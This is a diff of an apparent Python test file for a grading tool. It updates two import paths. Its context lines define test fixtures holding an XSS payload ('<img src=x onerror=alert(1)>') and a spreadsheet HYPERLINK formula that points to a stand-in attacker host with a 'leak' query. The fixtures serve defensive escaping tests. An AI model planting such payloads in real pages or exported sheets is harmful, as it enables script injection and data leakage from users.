@@ -14,8 +14,8 @@ import os
 import shutil
 from pathlib import Path
 
-from test_feedback_support import BUNDLED_COURSE, REPO, autograde
-from test_grading_support import OPTIMIZERS_SOURCE, optimizers_with
+from support.feedback import BUNDLED_COURSE, REPO, autograde
+from support.grading import OPTIMIZERS_SOURCE, optimizers_with
 
 HOSTILE_HTML = "<img src=x onerror=alert(1)>"
 HOSTILE_FORMULA = '=HYPERLINK("evil.example?leak","x")'  # no "/": it is also a folder name
